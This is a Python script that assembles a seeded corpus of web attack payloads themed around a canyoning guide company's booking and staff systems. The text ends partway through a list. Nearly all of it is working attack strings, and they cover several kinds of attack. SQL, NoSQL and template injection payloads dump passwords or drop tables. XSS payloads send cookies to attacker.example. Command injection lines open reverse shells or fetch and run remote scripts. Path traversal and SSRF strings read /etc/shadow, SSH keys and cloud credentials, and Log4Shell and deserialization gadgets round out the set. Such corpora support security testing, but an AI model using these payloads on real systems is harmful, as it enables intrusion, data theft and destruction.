#!/usr/bin/env python3
"""Attack corpus for a canyoning / abseiling guide company. Seed 31402."""
import json, os, random

SEED = 31402
rng = random.Random(SEED)
HERE = os.path.dirname(os.path.abspath(__file__))

# (category, class, [hand-written literal values])
L = []

L.append(("sqli", "union", [
    "Gorge Noire' UNION SELECT username, password_hash FROM guides-- -",
    "rio verde%' union all select null,email,phone,null from clients#",
    "0 UNION SELECT 1,group_concat(cert_no),3 FROM certifications",
    "R-60-03' UnIoN SeLeCt table_name,2 FROM information_schema.tables WHERE table_schema=database()-- x",
    "x')) union select 1,2,concat(login,':',pwd),4 from staff limit 1 -- ",
    "Kessel'/**/UNION/**/SELECT/**/card_last4,expiry/**/FROM/**/payments--",
    "-1 union distinct select name, sql from sqlite_master--",
    "B-1042' UNION SELECT NULL,NULL,version(),NULL--",
    "1)+union+select+1,user(),3,4--+",
    "canyon\" union select column_name,null from information_schema.columns where table_name=\"waivers\"--",
    "-9 /*!50000UNION*/ /*!50000SELECT*/ 1,medical_notes,3 FROM waivers",
    "Gorge%27%20UNION%20SELECT%20iban%2Cnull%20FROM%20bank_details--",
]))
L.append(("sqli", "boolean", [
    "Sara' OR '1'='1",
    "Nico' or 1=1-- ",
    "x' OR 'a'<>'b' OR 'x'='",
    "1 or true",
    "admin'-- ",
    "guide@example.com' OR 2>1 --",
    "' OR EXISTS(SELECT 1 FROM guides WHERE role='admin' AND SUBSTRING(password,1,1)='a')--",
    "R-50-01' AND (SELECT COUNT(*) FROM users)>0 AND '1'='1",
    "B-1103' and ascii(substr((select pwd from staff where id=1),1,1))>77-- -",
    "0' || '1'='1",
    "Rocky Creek' oR 0x31=0x31 #",
    "1' AND 1=(SELECT CASE WHEN (SELECT current_user)='postgres' THEN 1 ELSE 0 END)--",
]))
L.append(("sqli", "time-blind", [
    "Ravin des Fées'; SELECT pg_sleep(7)--",
    "1' AND SLEEP(5) AND 'x'='x",
    "B-1221' AND (SELECT 1 FROM (SELECT SLEEP(6))a)-- -",
    "0';WAITFOR DELAY '0:0:8'--",
    "x' AND IF(SUBSTRING(@@version,1,1)='8',BENCHMARK(9000000,MD5('a')),0)-- ",
    "flow 0.3' || (select case when 1=1 then pg_sleep(4) else pg_sleep(0) end)--",
    "1 and 1=(select 1 from dual where dbms_pipe.receive_message('q',9)=1)",
    "Hidden Slot');select sleep(10);#",
    "SarA' aNd SlEeP/**/(5)#",
    "1;SELECT CASE WHEN (1=1) THEN randomblob(300000000) ELSE 1 END--",
]))
L.append(("sqli", "error-based", [
    "1' AND extractvalue(1,concat(0x7e,(select database()),0x7e))-- -",
    "x' AND updatexml(null,concat(0x3a,(select password from guides limit 1)),null)-- ",
    "R-60-05' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--",
    "2' and 1=cast((select string_agg(email,',') from clients) as int)--",
    "0' AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)-- ",
    "Gorge' AND 1=ctxsys.drithsx.sn(1,(select user from dual))--",
    "1' and exp(~(select * from (select user())a))-- -",
]))
L.append(("sqli", "stacked", [
    "Nico'; DROP TABLE bookings;--",
    "B-1150'; UPDATE guides SET role='admin' WHERE name='mallory';--",
    "x'; INSERT INTO staff(login,pwd,role) VALUES('ghost','x','admin')--",
    "1; DELETE FROM incident_reports WHERE 1=1",
    "rope'; TRUNCATE gear_inspections; --",
    "'; EXEC xp_cmdshell 'powershell -c iwr http://attacker.example/r.ps1'--",
    "0'; COPY (SELECT '') TO PROGRAM 'curl 203.0.113.9/p|sh';--",
    "2024-07-02'; ALTER USER app WITH SUPERUSER;--",
    "x';CREATE TRIGGER t AFTER INSERT ON waivers BEGIN UPDATE waivers SET signed=1; END;--",
]))
L.append(("sqli", "order-by-enum", [
    "route_name ORDER BY 9-- ",
    "1 ORDER BY (CASE WHEN (SELECT substr(pwd,1,1) FROM staff LIMIT 1)='a' THEN flow ELSE date END)",
    "date,(select 1 from pg_sleep(5))",
    "name' GROUP BY 1,2,3,4,5 HAVING 1=1--",
    "(SELECT IF(1=1,name,date))",
    "flow desc, (select case when (select count(*) from guides)>5 then 1 else 1/0 end)",
]))
L.append(("sqli", "file-oob", [
    "1' UNION SELECT LOAD_FILE('/etc/passwd'),2-- -",
    "x' union select '<?php system($_GET[c]); ?>',2 into outfile '/var/www/html/topo.php'-- ",
    "1';SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM guides LIMIT 1),'.attacker.example\\\\a'))-- ",
    "'; exec master..xp_dirtree '\\\\198.51.100.23\\share'--",
    "x' || UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) || '",
    "0' AND (SELECT lo_import('/etc/shadow'))>0--",
]))
L.append(("sqli", "obfuscated", [
    "1'%0aunion%0aselect%0aname,pwd%0afrom%0astaff--",
    "Gorge'%252f%252a*/UNION%252f%252a*/SELECT%20pwd%20FROM%20staff--",
    "x'%2527%20OR%201%3D1--",
    "Nico＇ ＯＲ １＝１－－",
    "1'||(SeLeCt/**/chr(65)||chr(66))||'",
    "R3'+uni/**/on+sel/**/ect+1,2--",
    "x' %55NION %53ELECT login,pwd FROM staff-- ",
    "0'/*!12345union*//*!12345select*/1,@@hostname--",
]))

L.append(("xss", "script-tag", [
    "Amazing trip!! <script>fetch('https://attacker.example/c?k='+document.cookie)</script>",
    "Gorge Noire <ScRiPt src=//attacker.example/x.js></sCrIpT>",
    "TR: Rio Verde</textarea><script>new Image().src='//203.0.113.4/?'+localStorage.token</script>",
    "<script>location='https://attacker.example/login?from='+location.href</script>",
    "Nice topo <script type=\"module\">import('https://attacker.example/m.js')</script>",
    "</title><script>alert(document.domain)</script>",
    "<script>eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZS8nK2RvY3VtZW50LmNvb2tpZSk='))</script>",
    "<script\n>document.write('<img src=//attacker.example/'+document.cookie+'>')</script\n>",
]))
L.append(("xss", "event-handler", [
    "Photo of the 42 m drop <img src=x onerror=\"fetch('//attacker.example/'+document.cookie)\">",
    "<svg onload=alert(1)>",
    "Great guide!<body onload=location='//attacker.example/?c='+document.cookie>",
    "<img src=/nonexistent.jpg onerror=this.src='//attacker.example/?'+document.cookie>",
    "<details open ontoggle=import('//attacker.example/a.js')>",
    "<video><source onerror=\"eval(name)\"></video>",
    "\"><input autofocus onfocus=alert(document.cookie)>",
    "<div onmouseover=\"document.location='https://attacker.example/'\">Hover for the topo</div>",
    "<marquee onstart=confirm(1)>R5 anchors fixed!</marquee>",
    "<iMg SrC=1 oNeRrOr=prompt`1`>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<audio src=x onerror=top['al'+'ert'](1)>",
    "<x contenteditable onblur=alert(1)>click me</x>",
    "Rope stuck? <a onpointerenter=fetch('//attacker.example/x?'+document.cookie)>see here</a>",
    "<img src=x:x onerror=window.onerror=alert;throw 1>",
    "<body onpageshow=alert(1)>",
    "<style onload=alert(1)></style>",
    "<img/src/onerror=alert(document.domain)>",
]))
L.append(("xss", "attr-breakout", [
    "Gorge Noire\" onmouseover=\"alert(1)",
    "Sara' autofocus onfocus='fetch(`//attacker.example/${document.cookie}`)",
    "x\" style=\"animation-name:rotation\" onanimationstart=\"alert(1)",
    "Rio Verde\"><svg/onload=alert(1)>",
    "M' accesskey='x' onclick='alert(1)",
    "\" onfocusin=alert(1) autofocus tabindex=1 x=\"",
    "foo\"/><img src=x onerror=alert(1)><\"",
]))
L.append(("xss", "js-context", [
    "';alert(document.cookie);//",
    "\";fetch('//attacker.example/?'+document.cookie);var x=\"",
    "</script><script>alert(1)</script>",
    "Nico\\';alert(1)//",
    "${alert(document.domain)}",
    "'-alert(1)-'",
    "\\u0027;alert(1);//",
]))
L.append(("xss", "url-scheme", [
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:fetch('//attacker.example/'+document.cookie)",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<a href=\"javascript&colon;alert(1)\">Photos from Saturday</a>",
    "<iframe src=\"javascript:parent.location='//attacker.example'\"></iframe>",
    "  javascript://%0aalert(document.domain)",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">GPX track</a>",
    "<form action=javascript:alert(1)><button>Book now</button></form>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
]))
L.append(("xss", "encoded", [
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Csvg%2520onload%253Dalert(1)%253E",
    "&lt;img src=x onerror=alert(1)&gt;",
    "＜script＞alert(1)＜/script＞",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;>",
    "%u003Csvg onload=alert(1)%u003E",
    "<svg><script>&#97;lert(1)</script></svg>",
]))
L.append(("xss", "markup-misc", [
    "<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\"></iframe>",
    "<base href=\"https://attacker.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/phish\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "[Topo](javascript:alert(document.cookie))",
    "![pic](x\" onerror=\"alert(1))",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
    "<link rel=import href=//attacker.example/x.html>",
    "<embed src=\"//attacker.example/x.swf\" allowscriptaccess=always>",
    "{{constructor.constructor('alert(1)')()}}",
    "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)></div>",
    "<template><img src=x onerror=alert(1)></template><script>document.body.append(document.querySelector('template').content)</script>",
    "<form><button formaction=javascript:alert(1)>Submit waiver</button></form>",
]))

L.append(("cmdi", "separator", [
    "R-60-03; cat /etc/passwd",
    "topo.pdf && curl -s http://attacker.example/x.sh | sh",
    "Gorge Noire | nc 203.0.113.7 4444 -e /bin/sh",
    "rio_verde.gpx; rm -rf /var/www/uploads/*",
    "0.42 || wget -qO- http://198.51.100.3/b | bash",
    "photo.jpg\nid",
    "roster.csv;id>/tmp/x",
    "B-1042 & whoami &",
    "station 4412;ping -c 3 attacker.example",
    "R5\r\nuname -a",
    "x|| sleep 9 ||",
    "report.pdf;/bin/busybox telnet 203.0.113.44 23",
    "cert.pdf%0acat%20/etc/shadow",
    "%3Bcurl%20attacker.example%2Fz%7Csh",
    "helmet.png`;`id",
]))
L.append(("cmdi", "substitution", [
    "Gorge $(curl -s attacker.example/p|sh)",
    "flow `id`",
    "$(whoami).attacker.example",
    "topo_$(sleep 8).pdf",
    "Nico`nslookup $(hostname).attacker.example`",
    "R-50-01 $(cat /etc/hostname)",
    "x$(printf '\\x63\\x61\\x74')${IFS}/etc/passwd",
    "`wget http://198.51.100.8/k -O /tmp/k;chmod +x /tmp/k;/tmp/k`",
    "gpx-$(base64 -d<<<Y3VybCBhdHRhY2tlci5leGFtcGxlfHNo|sh)",
    "$(echo${IFS}aWQ=|base64${IFS}-d|sh)",
    "pic.jpg$(touch /tmp/pwn)",
    "<(curl attacker.example/x)",
]))
L.append(("cmdi", "obfuscated", [
    ";c''at /e''tc/pa''sswd",
    ";/???/c?t /???/p?ss??",
    "|c\\a\\t /etc/passwd",
    ";cat${IFS}/etc/passwd",
    ";{cat,/etc/passwd}",
    "a;$'\\x63\\x61\\x74' /etc/passwd",
    ";X=$'cat\\x20/etc/passwd'&&$X",
    "|w'h'o'am'i",
    ";$(rev<<<'dwssap/cte/ tac')",
    ";c$@at /etc/pass$()wd",
    "&&/usr/bin/env${IFS}bash${IFS}-c${IFS}'id'",
    ";a=c;b=at;$a$b /etc/group",
    "|tr${IFS}'a-z'${IFS}'n-za-m'<<<'phey'${IFS}|sh",
]))
L.append(("cmdi", "reverse-shell", [
    "; bash -i >& /dev/tcp/203.0.113.12/9001 0>&1",
    "| python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.40\",443));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"sh\")'",
    "; rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.8 1234 >/tmp/f",
    "&& perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(53,inet_aton(\"203.0.113.77\")));open(STDIN,\">&S\");exec(\"/bin/sh -i\")'",
    "; php -r '$s=fsockopen(\"attacker.example\",8080);exec(\"sh <&3 >&3 2>&3\");'",
    "| socat tcp:203.0.113.21:4443 exec:sh,pty",
    "; ruby -rsocket -e 'c=TCPSocket.new(\"198.51.100.2\",7000);$stdin.reopen(c);$stdout.reopen(c);exec \"sh\"'",
    "; awk 'BEGIN{s=\"/inet/tcp/0/203.0.113.5/8443\";while(1){s|&getline c;if(c){while((c|&getline)>0)print|&s;close(c)}}}'",
]))
L.append(("cmdi", "windows", [
    "topo.pdf & type C:\\Windows\\win.ini",
    "R-60 | powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a')\"",
    "x & certutil -urlcache -split -f http://198.51.100.9/x.exe %TEMP%\\x.exe & %TEMP%\\x.exe",
    "roster.csv | cmd /c dir C:\\Users",
    "& ping -n 8 127.0.0.1 &",
    "|| pOwErShElL -enc SQBFAFgAKABpAHcAcgAgAGEAdAB0AGEAYwBrAGUAcgAuAGUAeABhAG0AcABsAGUAKQA=",
    "%26%20net%20user%20hacker%20P4ss!%20/add",
    "& mshta http://attacker.example/h.hta",
    "; bitsadmin /transfer j http://attacker.example/p.exe C:\\Users\\Public\\p.exe",
]))
L.append(("cmdi", "argument-injection", [
    "--output=/var/www/html/sh.php http://attacker.example/sh.txt",
    "-oProxyCommand=sh -c 'curl attacker.example|sh' x",
    "--use-compress-program=sh -c 'id>/tmp/o'",
    "-exec sh -c 'id' ;",
    "photo.jpg -o /etc/cron.d/x",
    "--checkpoint=1 --checkpoint-action=exec=sh /tmp/r.sh",
    "-X POST -d @/etc/passwd http://attacker.example/",
]))

L.append(("traversal", "dotdot", [
    "../../../../etc/passwd",
    "topos/../../../../../etc/shadow",
    "..\\..\\..\\windows\\win.ini",
    "/var/www/uploads/certs/../../../../root/.ssh/id_rsa",
    "gear_inspection_2024.xlsx/../../../app/.env",
    "....//....//....//etc/hosts",
    "..././..././..././proc/self/environ",
    "rio_verde.gpx/../../../../../../proc/self/cmdline",
    "..//..//..//..//etc//passwd",
    "certs/2024/../../../config/database.yml",
    "../../../../../../var/log/nginx/access.log",
    "..\\..\\..\\..\\inetpub\\wwwroot\\web.config",
    "photos/../../../../home/guide/.bash_history",
    "../../../../../../usr/local/etc/php/php.ini",
    "....\\\\....\\\\....\\\\windows\\\\system32\\\\drivers\\\\etc\\\\hosts",
]))
L.append(("traversal", "encoded", [
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fshadow",
    "..%c0%af..%c0%af..%c0%afetc/passwd",
    "..%c1%9c..%c1%9c..%c1%9cboot.ini",
    "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd",
    "..%5c..%5c..%5cwindows%5cwin.ini",
    "topo.pdf%00../../../../etc/passwd",
    "../../../../etc/passwd%00.pdf",
    "．．／．．／．．／etc／passwd",
    "%2e%2e/%2e%2e/%2e%2e/app/config/secrets.json",
    "..%255c..%255c..%255cweb.config",
    ".%2e/.%2e/.%2e/.%2e/etc/group",
    "..%e0%80%af..%e0%80%afetc%e0%80%afpasswd",
    "/%2e%2e/%2e%2e/%2e%2e/var/run/secrets/kubernetes.io/serviceaccount/token",
]))
L.append(("traversal", "absolute", [
    "/etc/passwd",
    "file:///etc/shadow",
    "C:\\Windows\\System32\\config\\SAM",
    "/proc/self/fd/3",
    "\\\\198.51.100.6\\share\\payload.dll",
    "/var/www/app/.git/config",
    "/root/.aws/credentials",
    "php://filter/convert.base64-encode/resource=../config.php",
    "/proc/1/environ",
    "zip:///var/www/uploads/topo.zip#../../shell.php",
    "/dev/tcp/203.0.113.50/80",
    "/var/lib/canyon/exports/../../../../etc/ssl/private/server.key",
]))
L.append(("traversal", "archive-slip", [
    "../../../../var/www/html/cmd.jsp",
    "../../../../../etc/cron.d/backdoor",
    "roster/../../../../home/app/.ssh/authorized_keys",
    "photos/2024/..\\..\\..\\..\\Windows\\Start Menu\\Programs\\Startup\\run.bat",
    "images/../../../../../opt/app/templates/base.html",
]))

L.append(("ssrf", "metadata", [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token",
    "http://[fd00:ec2::254]/latest/api/token",
    "http://metadata.google.internal/computeMetadata/v1/?recursive=true",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.170.2/v2/credentials",
    "https://hydro.example.gov@169.254.169.254/latest/user-data",
]))
L.append(("ssrf", "internal", [
    "http://127.0.0.1:8080/admin/export?table=waivers",
    "http://localhost:6379/",
    "http://10.0.0.5:9200/_cat/indices",
    "http://192.168.1.1/cgi-bin/luci",
    "http://172.17.0.1:2375/containers/json",
    "http://kubernetes.default.svc/api/v1/namespaces/default/secrets",
    "http://127.0.0.1:15672/api/users",
    "http://internal-api.local/v1/guides?include=password",
    "https://localhost:8443/actuator/env",
    "http://consul.service.internal:8500/v1/kv/?recurse",
    "http://192.168.0.10:5984/_all_dbs",
]))
L.append(("ssrf", "alt-ip", [
    "http://2130706433/admin",
    "http://0x7f000001:8080/",
    "http://0177.0.0.1/server-status",
    "http://127.1/",
    "http://0/",
    "http://[::1]:3000/debug",
    "http://[::ffff:127.0.0.1]/",
    "http://0xA9FEA9FE/latest/meta-data/",
    "http://2852039166/latest/meta-data/",
    "http://169.254.43518/latest/meta-data/",
    "http://①②⑦.⓪.⓪.①/admin",
    "http://127.0.0.1.nip.io/admin",
    "http://0251.0376.0251.0376/",
]))
L.append(("ssrf", "scheme", [
    "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A",
    "dict://localhost:11211/stats",
    "file:///proc/self/environ",
    "ftp://10.1.2.3/../../etc/passwd",
    "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Ca%40attacker.example%3E",
    "ldap://127.0.0.1:389/%0astats%0aquit",
    "jar:http://attacker.example/x.zip!/evil.class",
    "netdoc:///etc/passwd",
]))
L.append(("ssrf", "redirect-parser", [
    "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/",
    "http://attacker.example#@127.0.0.1:8080/",
    "http://127.0.0.1\\@photos.example.net/",
    "http://photos.example.net&@10.0.0.8:8000/#@photos.example.net/",
    "http://rebind.attacker.example/latest/meta-data/",
    "http://localtest.attacker.example:80@127.0.0.1/",
    "https://hydro.example.gov.attacker.example/station/4412",
    "http:/\\/127.0.0.1:5000/internal",
    "http://127.0.0.1%2523@hydro.example.gov/",
    "http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/",
]))

L.append(("code", "ssti", [
    "Hi {{ client_name }}! {{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('cat /etc/passwd').read() }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c('id',shell=True,stdout=-1).communicate() }}{% endif %}{% endfor %}",
    "{{ request.application.__globals__.__builtins__.__import__('os').popen('whoami').read() }}",
    "{{ config.items() }}",
    "{{7*'7'}} {{ lipsum.__globals__['os'].popen('uname -a').read() }}",
    "${T(java.lang.Runtime).getRuntime().exec('curl attacker.example')}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')",
    "{{#with \"s\" as |string|}}{{#with string.split as |conslist|}}{{this.push (lookup string.sub \"constructor\")}}{{/with}}{{/with}}",
    "<%= `id` %>",
    "<%= system('cat /etc/passwd') %>",
    "{php}echo shell_exec('id');{/php}",
    "{system('ls -la /var/www')}",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "#{ 7 * 7 }#{ File.read('/etc/passwd') }",
    "{{ range.constructor(\"return process.mainModule.require('child_process').execSync('id')\")() }}",
    "Dear ${guest}, {{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fmro\\x5f\\x5f') }}",
    "[[${T(java.lang.Runtime).getRuntime().exec('touch /tmp/x')}]]",
]))
L.append(("code", "expression-language", [
    "${Runtime.getRuntime().exec(\"nc 203.0.113.3 4444 -e sh\")}",
    "#{''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
    "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
    "${@java.lang.Runtime@getRuntime().exec(\"whoami\")}",
    "${pageContext.request.getSession().setAttribute(\"admin\",true)}",
    "#{session.setAttribute('role','admin')}",
    "${''.class.forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('java.lang.Runtime.getRuntime().exec(\"id\")')}",
    "{\"filter\": \"#this.getClass().forName('java.lang.Runtime').getRuntime().exec('id')\"}",
]))
L.append(("code", "log4shell", [
    "${jndi:ldap://attacker.example:1389/a}",
    "Gorge Noire ${jndi:rmi://203.0.113.66/Exploit}",
    "${${lower:j}ndi:${lower:l}dap://attacker.example/x}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.14/o}",
    "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}",
    "${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap${env:NOPE:-:}//attacker.example/z}",
    "Thanks for the trip! ${jNdI:LdAp://attacker.example/${sys:user.name}}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.example/q}",
    "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fu%7D",
]))
L.append(("code", "eval", [
    "require('child_process').exec('curl attacker.example/s|sh')",
    "__import__('os').system('id')",
    "eval(compile('import os;os.system(\"id\")','x','exec'))",
    "process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')",
    "0.42; system('cat /etc/passwd');",
    "1);phpinfo();//",
    "\";exec('rm -f /tmp/x');//",
    "';require('child_process').execSync('id');'",
    "Function('return this')().process.exit()",
    "[].constructor.constructor('return process')().env",
    "exec(\"import socket,subprocess;subprocess.call(['sh','-c','id'])\")",
    "`${require('child_process').execSync('id')}`",
]))
L.append(("code", "prototype-pollution", [
    "{\"__proto__\": {\"isAdmin\": true}}",
    "{\"constructor\": {\"prototype\": {\"role\": \"admin\"}}}",
    "__proto__[isGuide]=true",
    "constructor[prototype][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//",
    "{\"booking\":{\"pax\":4},\"__proto__\":{\"shell\":\"/proc/self/exe\",\"NODE_OPTIONS\":\"--require /proc/self/environ\"}}",
    "__proto__.toString=1",
]))
L.append(("code", "csv-formula", [
    "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"Click for waiver\")",
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C powershell IEX(wget attacker.example/p)'!A0",
    "-2+3+cmd|' /C notepad'!'A1'",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "Murphy,Ciara,=IMPORTXML(CONCAT(\"https://attacker.example/?\",C2),\"//a\"),M",
    "=WEBSERVICE(\"http://attacker.example/leak?\"&ENCODEURL(D2))",
    "\t=1+1+cmd|'/c mshta http://attacker.example/x.hta'!_xlbgnm.A1",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
]))
L.append(("code", "xxe", [
    "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><roster><name>&x;</name></roster>",
    "<!DOCTYPE g [<!ENTITY % d SYSTEM \"http://attacker.example/e.dtd\"> %d;]><gear/>",
    "<?xml version=\"1.0\"?><!DOCTYPE t [<!ENTITY s SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><topo>&s;</topo>",
    "<!DOCTYPE x [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;\">]><x>&c;</x>",
    "<svg xmlns=\"http://www.w3.org/2000/svg\"><!DOCTYPE svg [<!ENTITY f SYSTEM \"file:///app/.env\">]><text>&f;</text></svg>",
    "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/hostname\"/>",
    "<?xml version=\"1.0\"?><!DOCTYPE w SYSTEM \"http://203.0.113.30/w.dtd\"><waiver/>",
]))
L.append(("code", "deserialization", [
    "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTA==",
    "cos\nsystem\n(S'id'\ntR.",
    "!!python/object/apply:os.system [\"curl attacker.example|sh\"]",
    "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList\",\"$values\":[\"cmd\",\"/c calc\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}",
    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example/o\",\"autoCommit\":true}",
    "a:2:{i:0;O:18:\"Monolog\\Handler\\Buf\":0:{}i:1;s:2:\"id\";}",
    "!ruby/object:Gem::Installer\n  i: x",
    "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
]))

L.append(("nosqli", "operator", [
    "{\"$ne\": null}",
    "{\"username\": {\"$gt\": \"\"}, \"password\": {\"$gt\": \"\"}}",
    "guide[$ne]=x",
    "{\"email\": {\"$regex\": \"^a\"}}",
    "password[$regex]=^s.*",
    "{\"route\": \"Gorge Noire\", \"$where\": \"sleep(5000) || true\"}",
    "{\"$or\": [{\"role\": \"admin\"}, {\"1\": 1}]}",
    "pin[$exists]=true",
    "{\"booking_ref\": {\"$in\": [\"B-1042\", {\"$gt\": \"\"}]}}",
    "login[$nin][]=nobody",
    "{\"$where\": \"this.password.match(/^p/) && sleep(3000)\"}",
    "{\"age\": {\"$gte\": 0}, \"$comment\": \"dump\"}",
    "{\"$expr\": {\"$function\": {\"body\": \"function(){return true}\", \"args\": [], \"lang\": \"js\"}}}",
    "{\"name\": {\"$regex\": \".*\", \"$options\": \"si\"}}",
    "status[%24ne]=cancelled",
    "{\"$lookup\": {\"from\": \"staff\", \"localField\": \"x\", \"foreignField\": \"x\", \"as\": \"leak\"}}",
]))
L.append(("nosqli", "js-injection", [
    "Nico'; return true; var x='",
    "' || 1==1//",
    "'; while(true){}; '",
    "0; sleep(5000)",
    "\"; db.guides.drop(); \"",
    "x' && this.role=='admin' && 'a'=='a",
    "1'||this.password.length>0||'",
    "'; this.constructor.constructor('return process')().exit(); '",
    "';return db.getCollectionNames().length>0;//",
    "Sara\" || Object.keys(this).length > 0 || \"",
    "'; emit(this.email, this.password); '",
]))

L.append(("crlf", "log-forging", [
    "Gorge Noire\n2024-07-12 09:14:03 INFO guide=admin action=LOGIN_OK ip=10.0.0.1",
    "flow 0.3\r\n[2024-07-12T10:00:00Z] AUDIT waiver signed by=director id=all",
    "R-60-03 pass\nGEAR R-60-04 status=PASS inspector=Kofi",
    "Nico%0d%0a2024-08-02 12:00:00 WARN incident deleted by=owner",
    "ok%0d%0a%09at com.canyon.PaymentService.refund(5000 EUR -> attacker.example)",
    "B-1042%0A%5BINFO%5D%20booking%20B-1042%20paid%20in%20full",
    "client slipped\r\n\r\n=== END OF REPORT ===\r\nSigned: Chief Guide",
]))
L.append(("crlf", "header-injection", [
    "en\r\nSet-Cookie: session=attacker; Path=/",
    "fr%0d%0aLocation:%20https://attacker.example/",
    "/topos/gorge%0D%0AX-Forwarded-Host:%20attacker.example",
    "de\r\nAccess-Control-Allow-Origin: https://attacker.example\r\nAccess-Control-Allow-Credentials: true",
    "%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1",
    "es%0aRefresh:%200;url=https://attacker.example",
    "gpx\r\nContent-Disposition: attachment; filename=update.exe",
]))
L.append(("crlf", "response-splitting", [
    "/book?lang=en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>",
    "x\r\n\r\n<html><body>Your booking expired, pay again at https://attacker.example</body></html>",
    "%0d%0a%0d%0a<svg onload=alert(document.domain)>",
    "it\r\nContent-Type: text/html\r\n\r\n<h1>Site moved</h1><a href=//attacker.example>continue</a>",
    "%0D%0ATransfer-Encoding:%20chunked%0D%0A%0D%0A0%0D%0A%0D%0AGET%20/admin%20HTTP/1.1",
]))
L.append(("crlf", "mail-header", [
    "Ana Pérez\r\nBcc: everyone@attacker.example",
